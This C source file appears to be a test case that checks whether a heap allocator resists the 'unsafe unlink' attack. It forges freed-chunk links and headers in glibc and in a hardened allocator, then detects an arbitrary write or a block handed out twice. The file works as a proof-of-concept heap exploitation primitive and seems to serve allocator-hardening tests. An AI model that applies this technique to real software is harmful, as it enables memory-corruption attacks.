/* Unsafe unlink: a forged back link in a freed block makes the unlink that takes it
 * out of its list write a value of the attacker's choosing (what) at an address of
 * the attacker's choosing (where), and leaves the block in the list to be handed out
 * twice. */
#include "sec.h"

static void *where[2] __attribute__((aligned(16)));
static void *what[2] __attribute__((aligned(16)));

/* glibc's: a fake free chunk inside chunk0 whose links point around the global that
 * holds chunk0 (so the unlink checks pass), chunk1's prev_size and PREV_INUSE forged,
 * chunk1 freed: the unlink writes &chunk0_ptr - 3 into chunk0_ptr. */
static uint64_t *chunk0_ptr;
static int glibc_variant(void)
{
    chunk0_ptr = malloc(0x420);
    uint64_t *chunk1_ptr = malloc(0x420);
    malloc(0x18);
    chunk0_ptr[1] = chunk0_ptr[-1] - 0x10;
    chunk0_ptr[2] = (uint64_t)(uintptr_t)(&chunk0_ptr - 3);
    chunk0_ptr[3] = (uint64_t)(uintptr_t)(&chunk0_ptr - 2);
    uint64_t *chunk1_hdr = chunk1_ptr - 2;
    chunk1_hdr[0] = 0x420;
    chunk1_hdr[1] &= ~(uint64_t)1;
    free(chunk1_ptr);
    if (chunk0_ptr == (uint64_t *)(&chunk0_ptr - 3))
        worked("write-what-where through the unlink");
    failed();
}

int main(void)
{
    if (allocator() != ON_HEAPCHECK)
        return glibc_variant();
    groom();
    flush_prepare();
    void *before = malloc(24), *a = malloc(24), *after = malloc(24);
    free(a);
    flush_quarantine();
    /* unlink: prev->next = next; next->prev = prev */
    *link_of(launder(a), 0) = &what[0];
    *link_of(a, 1) = &where[0];
    void *p[64];
    for (int i = 0; i < 64; i++) {
        p[i] = malloc(24);
        if (where[0] == &what[0])
            worked("write-what-where through the unlink");
        for (int j = 0; j < i; j++)
            if (p[j] == p[i])
                worked("the same block handed out twice");
    }
    launder(before);
    launder(after);
    failed();
}
